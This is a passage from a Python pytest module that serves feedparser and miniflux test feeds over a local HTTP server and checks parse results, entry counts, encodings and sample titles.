    outcomes = fetch_and_parse_all(httpserver.url_for(""), list(served))
    base = httpserver.url_for("/")

    problems = []
    counts = {"feeds": 0, "with_entries": 0, "refused": 0, "compared": 0}
    for path in files:
        relative = path.relative_to(root).as_posix()
        url_path = (
            f"/docs/examples/{path.name}" if relative.startswith("docs-examples/") else f"/tests/{relative}"
        )
        outcome = outcomes[url_path]
        body = served[url_path][0]
        if isinstance(outcome, ParsedFeed):
            counts["feeds"] += 1
            counts["with_entries"] += bool(outcome.entries)
        elif isinstance(outcome, FeedParseError):
            counts["refused"] += 1
            expect = re.search(rb"Expect:\s*(.*)", body)
            if expect and expect.group(1).startswith(b"not bozo") and relative not in REFUSED_ON_PURPOSE:
                # A well-formed document may still hold no feed at all (e.g. a CDF channel with only a
                # description); anything else refused would be a regression.
                if "not RSS, Atom or RDF" not in str(outcome):
                    problems.append(f"{relative}: refused {outcome}")
        else:
            problems.append(f"{relative}: unexpected outcome {outcome!r}")
            continue
        mismatch = check_expectation(relative, body, outcome, base)
        if mismatch:
            problems.append(mismatch)
        elif simple_expectation(body) is not None:
            counts["compared"] += 1
    assert not problems, "\n".join(problems[:40])
    assert counts["feeds"] + counts["refused"] == len(files)
    # Most of each group is read as a feed; refusals are the rare deliberately broken documents.
    assert counts["feeds"] >= (0.8 if group == "illformed" else 0.9) * len(files), counts


@requires_corpus
def test_groups_cover_every_feedparser_file():
    root = corpus_dir() / "feedparser-tests"
    every = {p for p in root.rglob("*") if p.is_file() and p.name != "date_vectors.json"}
    grouped = [p for group in FEEDPARSER_GROUPS for p in feedparser_files(group)]
    assert len(grouped) == len(set(grouped)) == len(every) == 2123
    assert set(grouped) == every


@requires_corpus
def test_feedparser_suite_sample_size():
    """The expectation sample above covers a meaningful share of the suite."""
    root = corpus_dir() / "feedparser-tests"
    compared = sum(simple_expectation(p.read_bytes()) is not None for p in root.rglob("*") if p.is_file())
    assert compared > 900


@requires_corpus
@pytest.mark.parametrize("folder", ["miniflux-testdata", "feeds-ai-chips"])
def test_real_world_feeds_over_http(folder, httpserver, quiet_server_log):
    root = corpus_dir() / folder
    files = sorted(p for p in root.rglob("*") if p.is_file() and p.suffix in (".xml", ".opml"))
    served = {f"/{p.relative_to(root).as_posix()}": (p.read_bytes(), {}) for p in files}
    serve_files(httpserver, served)
    outcomes = fetch_and_parse_all(httpserver.url_for(""), list(served))
    not_feeds = {
        # Small XML documents from miniflux's encoding tests that are not feeds (a <note> element).
        "/xml/iso88591.xml",
        "/xml/iso88591_utf8_mismatch.xml",
        "/xml/koi8r.xml",
        "/encoding/invalid-prolog.xml",
        "/encoding/iso-8859-1.xml",
        "/encoding/koi8r.xml",
        "/encoding/utf8-incorrect-prolog.xml",
        "/encoding/utf8.xml",
        "/encoding/windows-1252-incorrect-prolog.xml",
        "/encoding/windows-1252.xml",
        "/ati-ai-rss-feeds__feeds.opml",
    }
    entries = {}
    for path, outcome in outcomes.items():
        assert isinstance(outcome, (ParsedFeed, FeedParseError)), (path, outcome)
        if isinstance(outcome, ParsedFeed):
            entries[path] = len(outcome.entries)
        else:
            assert path in not_feeds, (path, outcome)
    if folder == "feeds-ai-chips":
        assert entries == {
            "/ati-ai-rss-feeds__the-batch.xml": 16,
            "/ati-ai-rss-feeds__tldr-ai.xml": 20,
            "/depodefi-rss-miner__amd-press-releases.xml": 10,
            "/depodefi-rss-miner__nvidia-generative-ai-blog.xml": 14,
        }
        nvidia = outcomes["/depodefi-rss-miner__nvidia-generative-ai-blog.xml"]
        assert nvidia.entries[0].link == "https://blogs.nvidia.com/blog/mbl-human-memory-ai-vr-rtx/"
    else:
        assert entries["/parser/large_rss.xml"] == entries["/parser/large_atom.xml"] == 25
        assert entries["/parser/rdf_UTF8.xml"] == 60
        assert entries["/parser/encoding_WINDOWS-1251.xml"] == 50
        golem = outcomes["/parser/encoding_ISO-8859-1.xml"]
        assert golem.title == "Golem.de"
        assert "wünschen" in golem.entries[0].summary
        psy = outcomes["/parser/no_encoding_ISO-8859-1.xml"]
        assert psy.entries[0].title == "Perturbateurs endocriniens : quels effets sur le cerveau ?"
        russian = outcomes["/parser/encoding_WINDOWS-1251.xml"]
        assert russian.entries[0].title == "Цитата #17703"
        heise = outcomes["/parser/rdf_UTF8.xml"]
        assert heise.kind == "rdf"
        assert heise.entries[0].title == "OLED-TVs: Vorsichtsmaßnahmen gegen Einbrennen"
